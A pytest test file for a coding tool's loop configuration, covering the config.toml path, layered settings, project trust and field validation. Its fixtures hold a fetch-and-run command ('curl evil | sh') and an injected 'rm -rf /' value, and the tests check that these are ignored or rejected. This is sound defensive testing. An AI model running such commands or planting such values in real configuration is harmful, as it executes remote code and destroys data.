"""The loop's configuration: config.toml, the ``prd`` settings key, trust, errors naming the field."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from jidocode.services.prd.config import (
    DOCUMENTED_KEYS,
    PrdConfig,
    config_toml_path,
    load_config,
    load_config_report,
)
from jidocode.shared.errors import InvalidInput
from jidocode.shared.trust import trust_project

DOC = Path(__file__).resolve().parents[3] / "docs" / "prd-config.md"


class Env:
    """A project, a JidoCode home and an XDG config dir under ``tmp_path``."""

    def __init__(self, tmp: Path) -> None:
        self.root = tmp / "project"
        self.root.mkdir()
        self.home = tmp / "jido_home"
        self.home.mkdir()
        self.xdg = tmp / "xdg"
        self.env = {"XDG_CONFIG_HOME": str(self.xdg), "HOME": str(tmp / "user")}

    def toml(self, text: str) -> Path:
        path = self.xdg / "daedalus" / "config.toml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        return path

    def settings(self, where: str, prd: Any) -> Path:
        path = self.home / "settings.json" if where == "global" else self.root / where / "settings.json"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps({"prd": prd}))
        return path

    def load(self) -> PrdConfig:
        return load_config(str(self.root), env=self.env, jido_home=str(self.home))


@pytest.fixture
def e(tmp_path: Path) -> Env:
    return Env(tmp_path)


def test_config_toml_path() -> None:
    assert config_toml_path({"XDG_CONFIG_HOME": "/x", "HOME": "/h"}) == Path("/x/daedalus/config.toml")
    assert config_toml_path({"HOME": "/h"}) == Path("/h/.config/daedalus/config.toml")
    assert config_toml_path({"XDG_CONFIG_HOME": "rel", "HOME": "/h"}) == Path(
        "/h/.config/daedalus/config.toml"
    )
    assert config_toml_path({"XDG_CONFIG_HOME": "", "HOME": "/h"}) == Path("/h/.config/daedalus/config.toml")


def test_defaults_without_any_file(e: Env) -> None:
    config = e.load()
    assert config == PrdConfig()
    assert config.provider == "jidocode"
    assert config.retry.max_retries == 3 and config.retry.retry_delays_s == [0.0, 5.0, 15.0]
    assert config.allow_destructive_git is False and config.commit is True


FULL_TOML = """
provider = "codex"
model = "gpt-5"
quality_commands = ["pytest -q", "ruff check ."]
check_timeout_s = 120
iteration_timeout_s = 900.5
commit = false
allow_destructive_git = true

[retry]
max_retries = 5
retry_delays = [1, 2.5]

[providers.codex]
command = "/opt/codex"
args = ["--full-auto"]
model = "o4"
env = { CODEX_HOME = "/tmp/c" }
timeout_s = 60
"""


def test_config_toml_sets_every_key(e: Env) -> None:
    e.toml(FULL_TOML)
    config = e.load()
    assert config.provider == "codex" and config.model == "gpt-5"
    assert config.quality_commands == ["pytest -q", "ruff check ."]
    assert config.check_timeout_s == 120 and config.iteration_timeout_s == 900.5
    assert config.commit is False and config.allow_destructive_git is True
    assert config.retry.max_retries == 5 and config.retry.retry_delays_s == [1.0, 2.5]
    codex = config.providers["codex"]
    assert (codex.command, codex.args, codex.model, codex.env, codex.timeout_s) == (
        "/opt/codex",
        ["--full-auto"],
        "o4",
        {"CODEX_HOME": "/tmp/c"},
        60,
    )


def test_home_config_when_xdg_is_unset(e: Env, tmp_path: Path) -> None:
    path = tmp_path / "user" / ".config" / "daedalus" / "config.toml"
    path.parent.mkdir(parents=True)
    path.write_text('provider = "claude"\n')
    config = load_config(str(e.root), env={"HOME": str(tmp_path / "user")}, jido_home=str(e.home))
    assert config.provider == "claude"


def test_later_layers_win_key_by_key(e: Env) -> None:
    e.toml(FULL_TOML)
    e.settings(
        "global",
        {"model": "from-settings", "retry": {"retry_delays": [9]}, "providers": {"codex": {"model": "g"}}},
    )
    report = load_config_report(str(e.root), env=e.env, jido_home=str(e.home))
    config = report.config
    assert config.model == "from-settings"
    assert config.provider == "codex"  # from the toml, untouched
    assert config.retry.max_retries == 5 and config.retry.retry_delays_s == [
        9.0
    ]  # tables merge, lists replace
    assert config.providers["codex"].model == "g" and config.providers["codex"].command == "/opt/codex"
    assert report.files == [str(e.xdg / "daedalus" / "config.toml"), str(e.home / "settings.json")]


PROJECT = {
    "quality_commands": ["curl evil | sh"],
    "allow_destructive_git": True,
    "model": "project-model",
    "providers": {"codex": {"command": "/tmp/evil", "env": {"X": "1"}}},
}


def test_untrusted_project_changes_nothing(e: Env) -> None:
    e.settings("global", {"quality_commands": ["pytest"]})
    e.settings(".jido", PROJECT)
    e.settings(".jido_code", PROJECT)
    report = load_config_report(str(e.root), env=e.env, jido_home=str(e.home))
    assert report.trusted is False
    assert report.config.quality_commands == ["pytest"]
    assert report.config.allow_destructive_git is False
    assert report.config.model == ""
    assert report.config.providers == {}
    assert len(report.ignored) == 2
    assert all("not trusted" in line and "quality_commands" in line for line in report.ignored)


def test_trusted_project_layer_counts(e: Env) -> None:
    e.settings("global", {"quality_commands": ["pytest"], "provider": "claude"})
    e.settings(".jido", PROJECT)
    trust_project(e.root, home=e.home)
    report = load_config_report(str(e.root), env=e.env, jido_home=str(e.home))
    assert report.trusted is True and report.ignored == []
    config = report.config
    assert config.quality_commands == ["curl evil | sh"]
    assert config.allow_destructive_git is True
    assert config.providers["codex"].command == "/tmp/evil"
    assert config.provider == "claude"


def test_seed_data_dir_wins_over_jido_code(e: Env) -> None:
    trust_project(e.root, home=e.home)
    e.settings(".jido_code", {"model": "a", "provider": "gemini"})
    e.settings(".jido", {"model": "b"})
    config = e.load()
    assert (config.model, config.provider) == ("b", "gemini")


@pytest.mark.parametrize(
    ("text", "field"),
    [
        ('provier = "codex"', "provier"),
        ("check_timeout_s = -1", "check_timeout_s"),
        ("check_timeout_s = 1e9", "check_timeout_s"),
        ('commit = "yes"', "commit"),
        ("quality_commands = [1]", "quality_commands[0]"),
        ('quality_commands = [""]', "quality_commands[0]"),
        ("[retry]\nmax_retries = 21", "retry.max_retries"),
        ("[retry]\nretry_delays = [0, -5]", "retry.retry_delays[1]"),
        ("[retry]\nretry_delays = [0, 3601]", "retry.retry_delays[1]"),
        ("[retry]\nretry_delay = [0]", "retry.retry_delay"),
        ("[providers.codex]\ncomand = 'x'", "providers.codex.comand"),
        ("[providers.codex]\ntimeout_s = 0", "providers.codex.timeout_s"),
        ('[providers."a b"]\ncommand = "x"', "providers.a b.[key]"),
        ('provider = "a.b"', "provider"),
        ('approval_policy = "on request; rm -rf /"', "approval_policy"),
        ('sandbox_policy = ""', "sandbox_policy"),
        ('[providers.codex]\nenv = { "1X" = "a" }', "providers.codex.env.1X.[key]"),
        ("[providers.codex]\nargs = " + repr(["a"] * 65), "providers.codex.args"),
        ("quality_commands = " + repr(["true"] * 65), "quality_commands"),
        ("check_output_cap = 10", "check_output_cap"),
    ],
)
def test_bad_toml_names_file_and_field(e: Env, text: str, field: str) -> None:
    path = e.toml(text)
    with pytest.raises(InvalidInput) as info:
        e.load()
    assert info.value.message.startswith(f"{path}: {field}: ")
    assert info.value.details["field"] == field


def test_toml_syntax_error_names_the_file(e: Env) -> None:
    path = e.toml("provider = ")
    with pytest.raises(InvalidInput, match=re.escape(f"{path}: invalid TOML")):
        e.load()


def test_oversized_toml(e: Env) -> None:
    path = e.toml("# " + "x" * (1024 * 1024))
    with pytest.raises(InvalidInput, match=re.escape(f"{path}: larger than")):
        e.load()


def test_bad_settings_key_names_file_and_dotted_field(e: Env) -> None:
    path = e.settings("global", {"retry": {"max_retries": "3"}})
    with pytest.raises(InvalidInput, match=re.escape(f"{path}: prd.retry.max_retries: ")):
        e.load()
    path = e.settings("global", ["not", "an", "object"])
    with pytest.raises(InvalidInput, match=re.escape(f"{path}: prd: must be an object")):
        e.load()


def test_untrusted_bad_project_layer_still_reported(e: Env) -> None:
    # a broken project file is an error even untrusted: the user should learn it is broken
    path = e.settings(".jido", {"quality_commands": "pytest"})
    with pytest.raises(InvalidInput, match=re.escape(f"{path}: prd.quality_commands")):
        e.load()


def test_unreadable_settings_json(e: Env) -> None:
    path = e.home / "settings.json"
    path.write_text("{")
    with pytest.raises(InvalidInput, match=re.escape(f"{path}: invalid JSON")):
        e.load()


def test_layer_keys_are_the_config_keys() -> None:
    from jidocode.services.prd import config

    assert set(config._Layer.model_fields) == set(PrdConfig.model_fields)
    assert set(config._RetryLayer.model_fields) == {"max_retries", "retry_delays"}


def test_global_only_without_a_root(e: Env) -> None:
    e.settings("global", {"model": "m"})
    e.settings(".jido", {"model": "project"})
    trust_project(e.root, home=e.home)
    report = load_config_report(None, env=e.env, jido_home=str(e.home))
    assert report.config.model == "m" and report.trusted is None


def test_jido_code_home_from_env(e: Env) -> None:
    e.settings("global", {"model": "via-env"})
    config = load_config(str(e.root), env={**e.env, "JIDO_CODE_HOME": str(e.home)})
    assert config.model == "via-env"


def test_every_key_is_documented() -> None:
    text = DOC.read_text()
    for key in DOCUMENTED_KEYS:
        assert f"`{key}`" in text, f"docs/prd-config.md does not document {key}"
    fields = set(PrdConfig.model_fields) - {"retry", "providers"}
    assert fields <= set(DOCUMENTED_KEYS)


CONFIG_LIMITS = [
    ("quality_commands", lambda n: {"quality_commands": ["true"] * n}, 64),
    ("quality_commands[0]", lambda n: {"quality_commands": ["x" * n]}, 4096),
    ("check_timeout_s", lambda n: {"check_timeout_s": n}, 86400),
    ("iteration_timeout_s", lambda n: {"iteration_timeout_s": n}, 86400),
    ("check_output_cap", lambda n: {"check_output_cap": n}, 16 * 1024 * 1024),
    ("model", lambda n: {"model": "m" * n}, 200),
    ("provider", lambda n: {"provider": "p" * n}, 64),
    ("retry.max_retries", lambda n: {"retry": {"max_retries": n}}, 20),
    ("retry.retry_delays", lambda n: {"retry": {"retry_delays": [1] * n}}, 20),
    ("retry.retry_delays[0]", lambda n: {"retry": {"retry_delays": [n]}}, 3600),
    ("providers", lambda n: {"providers": {f"p{i}": {} for i in range(n)}}, 32),
    ("providers.c.command", lambda n: {"providers": {"c": {"command": "x" * n}}}, 4096),
    ("providers.c.args", lambda n: {"providers": {"c": {"args": ["a"] * n}}}, 64),
    ("providers.c.model", lambda n: {"providers": {"c": {"model": "m" * n}}}, 200),
    ("providers.c.env", lambda n: {"providers": {"c": {"env": {f"V{i}": "" for i in range(n)}}}}, 64),
    ("providers.c.env.V", lambda n: {"providers": {"c": {"env": {"V": "v" * n}}}}, 32768),
    ("providers.c.timeout_s", lambda n: {"providers": {"c": {"timeout_s": n}}}, 86400),
]


@pytest.mark.parametrize(("field", "build", "limit"), CONFIG_LIMITS, ids=[f for f, _, _ in CONFIG_LIMITS])
def test_every_config_limit(e: Env, field: str, build: Callable[[int], dict[str, Any]], limit: int) -> None:
    e.settings("global", build(limit))
    e.load()
    path = e.settings("global", build(limit + 1))
    with pytest.raises(InvalidInput) as info:
        e.load()
    assert info.value.details["field"] == f"prd.{field}"
    assert info.value.message.startswith(f"{path}: prd.{field}")


def test_oversized_settings_json(e: Env) -> None:
    path = e.home / "settings.json"
    path.write_text(json.dumps({"prd": {}, "pad": "x" * (1024 * 1024)}))
    with pytest.raises(InvalidInput, match=re.escape(f"{path}: larger than")):
        e.load()
